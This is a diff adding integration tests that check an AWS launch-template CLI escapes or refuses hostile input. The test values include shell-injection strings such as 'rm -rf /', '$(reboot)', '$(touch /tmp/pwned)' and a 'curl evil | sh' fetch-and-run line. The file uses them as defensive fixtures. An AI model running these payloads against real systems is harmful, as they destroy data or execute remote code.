@@ -1,0 +1,132 @@
+"""Hostile values: each is rendered so that it arrives exactly as given, or refused (exit 2).
+
+Names with quotes, ``$(...)``, backticks and ``${...}`` must survive every format literally: the
+shell must not run them, YAML must not reinterpret them, Terraform must not interpolate them.
+Newlines and other control characters are refused before anything is printed.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import subprocess
+from pathlib import Path
+
+import hcl2
+import pytest
+import yaml
+
+from neuron_env.resources import shipped_matrix_dir
+from tests.conftest import CliRunner
+from tests.integration.test_cloud_render import unquoted
+
+pytestmark = pytest.mark.integration
+
+HOSTILE_KEY = "ops'\"; $(touch /tmp/pwned) `id` ${HOME} %{if} \\"
+HOSTILE_GROUP = "pg $(reboot) 'x' ${y}"
+BASE = ["launch-template", "render", "--release", "2.33.1", "--torch", "2.14",
+        "--instance-type", "trn2.48xlarge"]  # fmt: skip
+HOSTILE = [*BASE, "--key-name", HOSTILE_KEY, "--placement-group", HOSTILE_GROUP]
+
+
+def render(cli: CliRunner, fmt: str, *args: str, matrix: Path | None = None) -> str:
+    extra = ["--matrix-dir", str(matrix)] if matrix else []
+    result = cli(*extra, *args, "--format", fmt)
+    assert result.returncode == 0, result.stderr
+    return result.stdout
+
+
+def test_hostile_names_survive_json_yaml_and_terraform_literally(cli: CliRunner) -> None:
+    data = json.loads(render(cli, "json", *HOSTILE))
+    assert (data["KeyName"], data["Placement"]["GroupName"]) == (HOSTILE_KEY, HOSTILE_GROUP)
+    cfn = yaml.safe_load(render(cli, "cloudformation", *HOSTILE))
+    lt = cfn["Resources"]["NeuronLaunchTemplate"]["Properties"]["LaunchTemplateData"]
+    assert (lt["KeyName"], lt["Placement"]["GroupName"]) == (HOSTILE_KEY, HOSTILE_GROUP)
+    tf = unquoted(hcl2.loads(render(cli, "terraform", *HOSTILE)))
+    resource = tf["resource"][0]["aws_launch_template"]["neuron"]
+    # Terraform would interpolate ${...} and %{...}; they must arrive escaped as $${ and %%{.
+    assert terraform_literal(resource["key_name"]) == HOSTILE_KEY
+    assert terraform_literal(resource["placement"][0]["group_name"]) == HOSTILE_GROUP
+
+
+def terraform_literal(value: str) -> str:
+    assert not re.search(r"(?<!\$)\$\{|(?<!%)%\{", value), f"unescaped template in {value!r}"
+    return value.replace("$${", "${").replace("%%{", "%{")
+
+
+def test_the_user_data_passes_each_value_as_one_argument(cli: CliRunner, tmp_path: Path) -> None:
+    """A matrix file whose DLAMI venv path is hostile: the bootstrap still gets it as one word."""
+    venv = "/opt/x'; touch /tmp/pwned; echo '$(id)`id`"
+    spec = "https://example.com/neuron_env-0.1.0-py3-none-any.whl#sha256=ab&x=1"
+    matrix = hostile_matrix(tmp_path, venv)
+    script = render(cli, "user-data", *BASE, "--neuron-env-spec", spec, matrix=matrix)
+    subprocess.run(["shellcheck", "-"], input=script, text=True, check=True)
+    assert bootstrap_argv(script, tmp_path) == [
+        "--release", "2.33.1", "--torch", "2.14", "--neuron-env-spec", spec, "--venv", venv,
+        "--system", "auto", "--efa", "auto", "--python-env", "auto", "--level", "1",
+    ]  # fmt: skip
+    assert not Path("/tmp/pwned").exists()
+
+
+def bootstrap_argv(script: str, tmp_path: Path) -> list[str]:
+    """Run the user data's last line with the bootstrap replaced by a printer of its arguments."""
+    (last,) = [line for line in script.splitlines() if line.startswith("exec ")]
+    printer = last.replace("exec /usr/local/sbin/neuron-env-bootstrap", "printf '%s\\n'", 1)
+    out = subprocess.run(["bash", "-c", printer], capture_output=True, text=True, cwd=tmp_path)
+    return out.stdout.splitlines()
+
+
+def hostile_matrix(tmp_path: Path, venv: str) -> Path:
+    folder = tmp_path / "matrix"
+    folder.mkdir()
+    text = (shipped_matrix_dir() / "2.33.1.toml").read_text()
+    assert 'venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"' in text
+    text = text.replace(
+        'venv = "/opt/aws_neuronx_venv_torch_neuronx_2_14_0"', f"venv = {json.dumps(venv)}"
+    )
+    (folder / "2.33.1.toml").write_text(text)
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--key-name", "ops\nrm -rf /"),
+        ("--placement-group", "pg\r\nx"),
+        ("--neuron-env-spec", "neuron-env'; curl evil | sh; '"),
+        ("--neuron-env-spec", "neuron-env $(id)"),
+        ("--iam-instance-profile", 'role"; id; "'),
+        ("--subnet", "subnet-0123456789abcdef0 --evil"),
+        ("--ami", "ami-0123456789abcdef0\n"),
+    ],
+)
+def test_values_that_cannot_be_right_are_refused(cli: CliRunner, option: str, value: str) -> None:
+    result = cli(*BASE, option, value)
+    assert result.returncode == 2
+    assert result.stdout == ""
+    assert result.stderr.startswith(f"error: {option} ")
+    assert "Traceback" not in result.stderr
+
+
+def test_a_control_character_in_matrix_data_is_refused_not_rendered(
+    cli: CliRunner, tmp_path: Path
+) -> None:
+    matrix = hostile_matrix(tmp_path, "/opt/venv\ttab")
+    result = cli("--matrix-dir", str(matrix), *BASE, "--format", "user-data")
+    assert result.returncode == 2
+    assert "control character" in result.stderr
+    assert result.stdout == ""
+
+
+def test_a_hostile_template_name_is_refused_before_any_aws_call(cli: CliRunner) -> None:
+    env = {"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "x", "AWS_REGION": "us-east-2",
+           "AWS_ENDPOINT_URL": "http://127.0.0.1:9"}  # fmt: skip
+    result = cli("launch-template", "create", "--name", "lt'; $(id)", *BASE[2:], env=env)
+    assert result.returncode == 2
+    assert "is not a valid launch-template name" in result.stderr
+
+
+def test_user_data_round_trips_through_base64_unchanged(cli: CliRunner) -> None:
+    data = json.loads(render(cli, "json", *HOSTILE))
+    assert base64.b64decode(data["UserData"]).decode() == render(cli, "user-data", *HOSTILE)
